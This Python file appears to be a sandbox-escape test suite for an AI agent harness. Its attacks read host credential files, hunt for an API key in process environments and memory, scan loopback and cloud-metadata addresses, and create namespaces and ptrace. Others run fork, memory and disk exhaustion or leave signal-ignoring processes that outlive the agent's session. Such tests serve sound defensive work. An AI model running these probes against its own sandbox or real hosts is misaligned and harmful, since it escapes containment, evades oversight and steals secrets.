"""Attack the host from an agent. Each attack returns what it got; `broke` says whether it got out.

Standard library alone: this file runs inside the fence.
"""

import contextlib
import ctypes
import errno
import fcntl
import glob
import hashlib
import json
import mmap
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
SYSCALLS = {
    "x86_64": {
        "exit": 60,
        "inotify_init1": 294,
        "syncfs": 306,
        "add_key": 248,
        "keyctl": 250,
        "memfd_create": 319,
        "bpf": 321,
        "io_uring_setup": 425,
        "userfaultfd": 323,
    },
    "aarch64": {
        "exit": 93,
        "inotify_init1": 26,
        "syncfs": 267,
        "add_key": 217,
        "keyctl": 219,
        "memfd_create": 279,
        "bpf": 280,
        "io_uring_setup": 425,
        "userfaultfd": 282,
    },
}[os.uname().machine]


def _call_system(name, *args):
    ctypes.set_errno(0)
    return libc.syscall(SYSCALLS[name], *args), ctypes.get_errno()


def _build_result(trophies):
    return {"broke": bool(trophies), "got": [str(trophy)[:200] for trophy in trophies][:10]}


def host_files(p):
    trophies = []
    for path in [p["marker"], "/etc/passwd", "/etc/shadow", "/etc/ssl/private", "/root", "/home", "/var", p["data"]]:
        with contextlib.suppress(OSError):
            trophies.append((path, _list_folder(path) if os.path.isdir(path) else open(path).read(50)))
    # The one user that every sandbox has is no user of the host.
    return _build_result(
        [trophy for trophy in trophies if trophy[1] and not str(trophy[1]).startswith("agent:x:65534:")]
    )


def host_packages(p):
    """Look for packages that the host installed for itself, with a Python that is started and in its folders."""
    trophies = [
        path
        for base in {sys.base_prefix, "/usr", "/usr/local"}
        for path in glob.glob(f"{base}/lib*/python*/*-packages/*")
        if os.path.basename(path) not in ("paddock.pth", "paddock_context.py")
    ]
    # If the known folders are empty, a Python may have others. Try a few, as each start takes time.
    program = "import importlib.metadata as m, json; print(json.dumps([d.name for d in m.distributions()]))"
    for command in ([sys.executable], ["python3", "-I"], ["/usr/bin/python3"]):
        with contextlib.suppress(OSError, ValueError):
            process = subprocess.run([*command, "-c", program], capture_output=True, check=False)
            trophies += json.loads(process.stdout or b"[]")
        if trophies:
            break
    return _build_result(trophies)


def _list_folder(folder):
    """List a folder without the empty parents of the interpreter."""
    return [name for name in os.listdir(folder) if not sys.base_prefix.startswith(os.path.join(folder, name))]


def other_versions(p):
    """List the folders beside one's own: other tenants' code."""
    beside = os.path.dirname(p["code"])
    return _build_result(os.listdir(beside) if os.path.isdir(beside) else [])


def write_outside(p):
    trophies = []
    for folder in ["/", "/agent", "/usr", "/dev", "/guest", "/proc/sys/kernel"]:
        with contextlib.suppress(OSError):
            open(f"{folder}/written", "w").write("x")
            trophies.append(folder)
    return _build_result(trophies)


def worker_environment(p):
    trophies = []
    for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ")]:
        with contextlib.suppress(OSError):
            if p["secret"].encode() in open(path, "rb").read():
                trophies.append(path)
    if p["secret"] in repr(dict(os.environ)):
        trophies.append("os.environ")
    return _build_result(trophies)


def host_tcp(p):
    trophies = []
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, p["address"])):
        with contextlib.suppress(OSError), socket.socket(family) as client:
            client.settimeout(1)
            client.connect((address, p["port"]))
            trophies.append(address)
    return _build_result(trophies)


def host_abstract_socket(p):
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + p["abstract"])
        return _build_result(["connected"])
    return _build_result([])


def any_socket(p):
    trophies = []
    for family in range(1, 46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            with contextlib.suppress(OSError):
                socket.socket(family, kind).close()
                trophies.append((family, int(kind)))
    with contextlib.suppress(OSError):
        socket.socketpair(socket.AF_UNIX)[0].close()
    for family in (socket.AF_INET, 40):
        with contextlib.suppress(OSError):
            socket.socketpair(family)
            trophies.append(("pair", family))
    return _build_result(trophies)


# Attacks of a program with a gateway.


def gateway_host(p):
    """Connect to anything but its own network: services of the host, its routes, the internet."""
    trophies = []
    for address in ("127.0.0.1", p["address"], "169.254.169.254", "10.0.0.1", "8.8.8.8"):
        for port in [p["port"], *p.get("ports", [])]:
            with socket.socket() as client:
                client.settimeout(0.5)
                error = client.connect_ex((address, port))
            if error not in (errno.ECONNREFUSED, errno.ENETUNREACH, errno.EPERM):
                trophies.append((address, port, error))
    return _build_result(trophies)


def gateway_sockets(p):
    """Open every socket but TCP over IPv4, and set options of that one that it does not need."""
    trophies = []
    for family in range(1, 46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            for protocol in (0, 1, 17, 132, 255, 262):
                if (family, kind, protocol) == (socket.AF_INET, socket.SOCK_STREAM, 0):
                    continue
                with contextlib.suppress(OSError):
                    socket.socket(family, kind, protocol).close()
                    trophies.append((family, int(kind), protocol))
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        with contextlib.suppress(OSError):
            socket.socketpair(socket.AF_UNIX, kind)
            trophies.append(("pair", int(kind)))
    with socket.socket() as tcp:
        for request in (0x8912, 0x8933, 0x8B01):  # addresses, numbers and radios of interfaces
            with contextlib.suppress(OSError):
                fcntl.ioctl(tcp, request, bytes(64))
                trophies.append(hex(request))
        for level, option in ((1, 26), (6, 31), (0, 64)):  # a filter program, an upper protocol, packet tables
            try:
                tcp.setsockopt(level, option, bytes(16))
                trophies.append((level, option))
            except OSError as error:
                if error.errno != errno.EPERM:
                    trophies.append((level, option, error.errno))
        with contextlib.suppress(OSError):
            tcp.bind(("127.0.0.1", 0))
            tcp.listen()
            with socket.create_connection(tcp.getsockname()), tcp.accept()[0]:
                trophies.append("a server of its own")
    return _build_result(trophies)


def gateway_unix(p):
    """Connect to Unix sockets of the host that are visible as files or have abstract names."""
    trophies = []
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for name in (f"/agent/door-{int(kind)}", "\0" + p["abstract"] + f"-{int(kind)}"):
            for make in (
                lambda kind=kind: socket.socket(socket.AF_UNIX, kind),
                lambda kind=kind: _open_socket_end(kind),
            ):
                with contextlib.suppress(OSError), make() as client:
                    client.connect(name)
                    trophies.append(("connected", name))
                with contextlib.suppress(OSError), make() as client:
                    client.sendto(b"x", name)
                    trophies.append(("sent", name))
    return _build_result(trophies)


def _open_socket_end(kind):
    return socket.socketpair(socket.AF_UNIX, kind)[0]


def _post(port, body, path="/v1/chat/completions", timeout=20):
    """Send a request by hand and return the status and the whole answer."""
    data = json.dumps(body).encode()
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(data)}\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout) as client:
        client.sendall(head.encode() + data)
        answer = b""
        while part := client.recv(65536):
            answer += part
    return int(answer.split()[1]), answer.decode()


def _get_own_port():
    return int(os.environ["OPENAI_BASE_URL"].split(":")[2].split("/")[0])


def _build_body(model, *words):
    return {"model": model, "messages": [{"role": "user", "content": " ".join(words) or "hello"}]}


def gateway_others(p):
    """Connect to the gateway of a concurrent run, which is at the same address in a network of its own."""
    trophies = []
    for _ in range(20):
        with contextlib.suppress(OSError):
            trophies.append(_post(p["other"], _build_body("small"), timeout=2))
    assert _post(_get_own_port(), _build_body("small"))[0] == 200
    return _build_result([text for _, text in trophies if "another's" in text])


def gateway_wait(p):
    """Wait while another run looks for this one's gateway."""
    print(_get_own_port(), flush=True)
    time.sleep(20)


def gateway_models(p):
    """Call a model that its manifest does not name."""
    assert _post(_get_own_port(), _build_body("small"))[0] == 200
    trophies = [_post(_get_own_port(), _build_body(name)) for name in ("large", "SMALL", "small ", "../large", "")]
    return _build_result([answer for answer in trophies if answer[0] == 200])


def gateway_words(p):
    """Look for the provider's key in answers of the gateway; all errors of this worker contain it."""
    bodies = [_build_body("small", "fail", kind) for kind in p["kinds"]]
    responses = [_post(_get_own_port(), {**body, **fields}) for body in bodies for fields in ({}, {"stream": True})]
    responses += [_post(_get_own_port(), body) for body in ({}, [], {"model": "x" * 1000})]
    responses += [
        _post(_get_own_port(), {}, path) for path in ("/", "/v1/models", "/v1/embeddings", "/v1/../../etc/passwd")
    ]
    return _build_result([text for _, text in responses if _find_keys(text.encode(), p) or "Traceback" in text])


def gateway_key(p):
    """Look for the same key in its environment, its memory, and what it sees of processes."""
    assert _post(_get_own_port(), _build_body("small"))[0] == 200
    trophies = []
    for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
        with contextlib.suppress(OSError):
            trophies += _find_keys(open(path, "rb").read(), p)
    for line in open("/proc/self/maps").read().splitlines():
        span, rights = line.split()[:2]
        if rights.startswith("r") and "[v" not in line:
            start, end = (int(address, 16) for address in span.split("-"))
            with contextlib.suppress(OSError, ValueError, OverflowError), open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(start)
                trophies += _find_keys(memory.read(end - start) or b"", p)
    return _build_result(trophies)


def _find_keys(data, p):
    # Compare by hash: the payload is in this program's memory, which it searches.
    words = re.findall(("sk-" + "pdk-[0-9a-f]{32}").encode(), data)
    return [word for word in words if hashlib.sha256(word).hexdigest() == p["key"]]


# What a program with declared hosts may try: `p["hosts"]` are these, with what their names lead to outside.


def _ask_service(host, port, data=b"hello"):
    """Return what a service of the host answers, empty if nothing does."""
    with contextlib.suppress(OSError), socket.create_connection((host, port), 3) as client:
        client.sendall(data)
        client.settimeout(3)
        return client.recv(200)
    return b""


def egress_undeclared(p):
    """The service of a declared host, by every address but its own, and other ports of its own."""
    assert _ask_service(*p["declared"]) == b"outside"
    # With a network of the host, the service is right here.
    return _build_result(
        [answer for address in ("127.0.0.1", "127.0.0.2") if (answer := _ask_service(address, p["service"]))]
    )


def egress_scan(p):
    """Every place where something of the host, of the worker or of another run may listen, on all loopback addresses."""
    own_places = {("127.0.0.1", 3128)}
    for line in open("/etc/hosts").read().splitlines():
        if line.startswith("127.77."):
            own_places.add((line.split()[0], p["service"]))
    places = [("127.0.0.1", port) for port in (*range(1, 10_000), p["service"], p["port"])]
    places += [(f"127.77.0.{number}", port) for number in range(20) for port in (80, 443, 4000, 3128, p["service"])]
    places += [(address, p["port"]) for address in ("127.0.0.2", "127.255.255.254", "0.0.0.0", p["address"])]
    places += [(address, 80) for address in ("169.254.169.254", "10.0.0.1", "172.17.0.1", "192.168.0.1")]
    trophies = []
    for place in places:
        with socket.socket() as client:
            client.settimeout(0.2)
            if client.connect_ex(place) == 0 and place not in own_places:
                trophies.append(place)
    return _build_result(trophies)


def egress_others(p):
    """Names and services that a resolver or a router would find: no DNS, no UDP, no IPv6."""
    trophies = []
    for name in ("example.com", "other.example", "metadata.google.internal"):
        with contextlib.suppress(OSError):
            trophies.append(socket.getaddrinfo(name, 443))
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", p["service"])),
        (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
    ):
        with contextlib.suppress(OSError):
            socket.socket(family, kind).close()
            trophies.append((family, kind, address))
    return _build_result(trophies)


def egress_private(p):
    """Declared names that lead to this host, to metadata, and elsewhere at their second connection."""
    return _build_result(
        [(name, answer) for name in p["private"] for _ in range(2) if (answer := _ask_service(name, p["service"]))]
    )


def egress_proxy(p):
    """Hosts and ports that no wildcard stands for, through the proxy."""
    trophies = []
    asked = [
        f"{name}:{p['service']}"
        for name in ("other.example", "127.0.0.1", "localhost", "cloud.example", "x.cloud.example.")
    ]
    for target in [*asked, "x.cloud.example:1", f"[::1]:{p['service']}"]:
        answer = _ask_service("127.0.0.1", 3128, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        if not answer.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")):
            trophies.append((target, answer))
    return _build_result(trophies)


def gateway_memory(p):
    """Fill TCP sockets with bytes, which belong to no process, and on some hosts to no group."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(250)
    clients, sent_bytes = [], 0
    while len(clients) < 200 and sent_bytes < (p["much"] << 20):
        client = socket.create_connection(listener.getsockname(), 2)
        client.setblocking(False)
        clients.append(client)
        with contextlib.suppress(BlockingIOError):
            while True:
                sent_bytes += client.send(b"x" * 65536)
    time.sleep(0.5)
    return _build_result([sent_bytes] if sent_bytes > (200 << 20) else [])


def keyring(p):
    trophies = []
    key, _ = _call_system("add_key", b"user", b"paddock-attack", b"x", 1, -3)
    if key >= 0:
        trophies.append(("add_key", key))
    ring, _ = _call_system("keyctl", 0, -4, 0)
    if ring >= 0:
        trophies.append(("keyctl", ring))
    return _build_result(trophies)


def forbidden_calls(p):
    trophies = []
    for name, args in (
        ("memfd_create", (b"x", 0)),
        ("bpf", (0, 0, 0)),
        ("io_uring_setup", (1, 0)),
        ("userfaultfd", (0,)),
    ):
        result, error = _call_system(name, *args)
        if error != 1:  # EPERM
            trophies.append((name, result, error))
    return _build_result(trophies)


def nested_namespaces(p):
    trophies = []
    for flag in (0x10000000, 0x10000000 | 0x00020000, 0x40000000, 0x20000000):
        pid = os.fork()
        if pid == 0:
            os._exit(0 if libc.unshare(flag) == 0 else 1)
        if os.waitpid(pid, 0)[1] == 0:
            trophies.append(hex(flag))
    # clone(2) with CLONE_NEWUSER, without libc's help
    number = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    pid = libc.syscall(number, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        trophies.append("clone")
    return _build_result(trophies)


def ptrace(p):
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    attached = libc.ptrace(16, pid, 0, 0)
    os.kill(pid, signal.SIGKILL)
    return _build_result(["attached"] if attached == 0 else [])


def siblings_limits(p):
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    trophies = []
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1))
        trophies.append(pid)
    os.kill(pid, signal.SIGKILL)
    return _build_result(trophies)


def other_processes(p):
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    trophies = [pid for pid in seen if pid == p["runner"]]
    with contextlib.suppress(OSError):
        os.kill(p["runner"], 0)
        trophies.append("signal")
    return _build_result(trophies)


def capabilities(p):
    lines = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    return _build_result([f"{name} {lines[name]}" for name in ("CapEff", "CapPrm", "CapAmb") if int(lines[name], 16)])


def kernel_settings(p):
    trophies = [name for folder in ("/proc/sys",) if os.path.isdir(folder) for name in os.listdir(folder)]
    for path in ("/proc/kallsyms", "/proc/keys", "/proc/config.gz"):
        with contextlib.suppress(OSError):
            if open(path, "rb").read(10):
                trophies.append(path)
    return _build_result(trophies)


def shared_ipc(p):
    return _build_result(["same"] if os.readlink("/proc/self/ns/ipc") == p["ipc"] else [])


def shared_session(p):
    # Outside one's own process namespace, the session's leader has no number here.
    return _build_result(["the worker's session"] if os.getsid(0) == 0 else [])


def root_only_file(p):
    with contextlib.suppress(OSError):
        return _build_result([open("/agent/owner_only").read(20)])
    return _build_result([])


def inherited_descriptors(p):
    trophies = []
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{fd}")
            if p["marker"] in target or "socket" in target:
                trophies.append(target)
    return _build_result(trophies)


def fork_bomb(p):
    children = []
    with contextlib.suppress(OSError):
        for _ in range(300):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    return _build_result(children if len(children) >= 100 else [])


def thread_bomb(p):
    import threading

    stop, count = threading.Event(), 0
    with contextlib.suppress(RuntimeError):
        for _ in range(300):
            threading.Thread(target=stop.wait, daemon=True).start()
            count += 1
    stop.set()
    return _build_result([count] if count >= 100 else [])


def _allocate_memory(size, flags):
    block = mmap.mmap(-1, size, flags=flags)
    for offset in range(0, size, 4096):
        block[offset] = 1
    return block


def memory_of_one(p):
    block = _allocate_memory(p["much"] << 20, mmap.MAP_PRIVATE)
    time.sleep(0.5)
    return _build_result([len(block)])


def memory_shared(p):
    block = _allocate_memory(p["much"] << 20, mmap.MAP_SHARED)
    time.sleep(0.5)
    return _build_result([len(block)])


def memory_of_many(p):
    pids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            block = _allocate_memory(p["much"] << 18, mmap.MAP_PRIVATE)
            time.sleep(1.0)
            os._exit(0 if block else 1)
        pids.append(pid)
    return _build_result([pid for pid in pids if os.waitpid(pid, 0)[1] == 0])


def memory_of_the_kernel(p):
    """Fill sockets with bytes, which belong to no process."""
    pairs, sent_bytes = [], 0
    with contextlib.suppress(OSError):
        while sent_bytes < (p["much"] << 20):
            a, b = socket.socketpair()
            with contextlib.suppress(OSError):
                a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            a.setblocking(False)
            pairs.append((a, b))
            with contextlib.suppress(BlockingIOError):
                while True:
                    sent_bytes += a.send(b"x" * 65536)
    return _build_result([sent_bytes] if sent_bytes > (200 << 20) else [])


def memory_of_many_sockets(p):
    """Fill sockets with only what the filter allows: many processes with as many small sockets as each may have."""
    pids, (ready, report) = [], os.pipe()
    for _ in range(16):
        pid = os.fork()
        if pid == 0:
            pairs, sent_bytes = [], 0
            with contextlib.suppress(OSError):
                while True:
                    pairs.append(socket.socketpair())
                    for end in pairs[-1]:
                        end.setblocking(False)
                        with contextlib.suppress(BlockingIOError):
                            while True:
                                sent_bytes += end.send(b"x" * 32768)
            os.write(report, sent_bytes.to_bytes(8, "little"))
            time.sleep(60)
        pids.append(pid)
    os.close(report)
    sent_bytes = 0
    with contextlib.suppress(OSError):
        for _ in pids:
            sent_bytes += int.from_bytes(os.read(ready, 8), "little")
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
    return _build_result([sent_bytes] if sent_bytes > (p["much"] << 20) else [])


def _end_first_thread(work):
    """Work in a thread and end the first one, so that the process's files in /proc are empty from then on."""
    import threading

    # The descriptor that the guest answers through, from the frame that runs this agent.
    frame = sys._getframe()
    while "answers" not in frame.f_locals:
        frame = frame.f_back
    fd = frame.f_locals["answers"]

    def send_result():
        # A line of JSON, and the result's JSON.
        os.write(fd, b"{}\n" + json.dumps(work()).encode())
        os._exit(0)

    threading.Thread(target=send_result).start()
    _call_system("exit", 0)


def memory_of_ended_threads(p):
    """Allocate memory in processes whose first thread has ended, each within the limit of a process."""
    import threading

    pids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:

            def hold():
                block = _allocate_memory(p["much"] << 18, mmap.MAP_PRIVATE)
                time.sleep(1.5)
                os._exit(0 if block else 1)

            threading.Thread(target=hold).start()
            libc.pthread_exit(None)
        pids.append(pid)
    return _build_result([pid for pid in pids if os.waitpid(pid, 0)[1] == 0])


def inodes_of_an_ended_thread(p):
    """Create files in a run whose first thread has ended."""
    _end_first_thread(lambda: inodes(p))


def memory_of_hoppers(p):
    """Fork and exit again and again, so that no process is where the watchdog looked for it."""
    ready, report = os.pipe()
    # Processes that exit are not waited for, and must not count among those that a run may have.
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(6):
        if os.fork() == 0:
            block = _allocate_memory(p["much"] << 18, mmap.MAP_PRIVATE)
            until = time.monotonic() + 1.5
            while time.monotonic() < until:
                if os.fork():
                    os._exit(0)
                time.sleep(0.002)
            os.write(report, b"." if block else b"")
            os._exit(0)
    os.close(report)
    done = b""
    while part := os.read(ready, 6):
        done += part
    return _build_result([len(done)] if len(done) > 3 else [])


def memory_not_to_be_dumped(p):
    """Allocate memory in processes whose files in /proc belong to root."""
    pids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            libc.prctl(4, 0, 0, 0, 0)
            block = _allocate_memory(p["much"] << 18, mmap.MAP_PRIVATE)
            time.sleep(1.0)
            os._exit(0 if block else 1)
        pids.append(pid)
    return _build_result([pid for pid in pids if os.waitpid(pid, 0)[1] == 0])


def terminals(p):
    """Open pseudo terminals, of which the whole host has a few thousand."""
    trophies = []
    for path in ("/dev/ptmx", "/dev/pts/ptmx"):
        with contextlib.suppress(OSError):
            trophies.append(os.ttyname(os.open(path, os.O_RDWR | os.O_NOCTTY)) or path)
    with contextlib.suppress(OSError):
        trophies.append(os.openpty())
    return _build_result(trophies)


def calls_for_the_whole_host(p):
    """Call what uses up limits of all users or file systems of the host."""
    trophies = []
    for name, arguments in (("inotify_init1", (0,)), ("syncfs", (os.open("/usr", os.O_RDONLY),))):
        result, error = _call_system(name, *arguments)
        if error not in (errno.EPERM, errno.ENOSYS):
            trophies.append((name, result, error))
    return _build_result(trophies)


def processors(p):
    """Start a session per process: a host that shares processors by session would give each as much as the API."""
    os.sched_setaffinity(0, {p["processor"]})
    until, pids = time.monotonic() + 3, []
    for _ in range(30):
        pid = os.fork()
        if pid == 0:
            os.setsid()
            while time.monotonic() < until:
                pass
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.waitpid(pid, 0)
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    # Whether that was too much is decided by the process that runs beside it (`runner.py`).
    return {"broke": False, "got": [], "used": used.ru_utime + used.ru_stime}


def limits_of_its_own(p):
    """Read the limits; a module of the agent's beside this file has the name of the one that sets them."""
    if (
        int(open("/proc/self/limits").read().split("Max processes")[1].split()[0].replace("unlimited", "9999999"))
        > 1000
    ):
        return _build_result(["unlimited"])
    return _build_result([])


def _fill_disk(folder, file_mb, limit_mb):
    written = 0
    with contextlib.suppress(OSError):
        for number in range(10):
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(file_mb):
                    written += file.write(b"x" * (1 << 20))
    return _build_result([written] if written > (limit_mb << 20) else [])


def disk(p):
    return _fill_disk("/tmp", 20, 100)


def disk_of_work(p):
    """Fill the work folder: what it holds is memory of the host."""
    return _fill_disk("/work", 40, 300)


def _fill_inodes(folder):
    for number in range(60_000):
        open(f"{folder}/{number}", "w").close()
    time.sleep(0.2)
    return _build_result([60_000])


def inodes(p):
    return _fill_inodes("/tmp")


def inodes_of_work(p):
    return _fill_inodes("/work")


def daemon(p):
    """Leave processes behind that ignore every signal they can, in sessions of their own."""
    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                libc.prctl(15, p["name"].encode())
                for number in range(1, 65):
                    with contextlib.suppress(OSError, ValueError):
                        signal.signal(number, signal.SIG_IGN)
                for fd in range(3):
                    os.close(fd)
                time.sleep(30)
            os._exit(0)
    time.sleep(0.3)
    return {"broke": False, "got": []}


def stubborn(p):
    """Ignore every signal and never end."""
    libc.prctl(15, p["name"].encode())
    for number in range(1, 65):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(1)


def outlive(p):
    """Keep running after its worker is gone."""
    libc.prctl(15, p["name"].encode())
    libc.prctl(1, 0)
    sys.stdout.write("here\n")
    sys.stdout.flush()
    time.sleep(60)


def output(p):
    block = "x" * 1023 + "\n"
    for _ in range(p["much"] << 10):
        sys.stdout.write(block)
    return _build_result([])


def nothing(p):
    return _build_result([])


def handle(p):
    """Run the attack that the payload names; executions call this."""
    return globals()[p["attack"]](p)
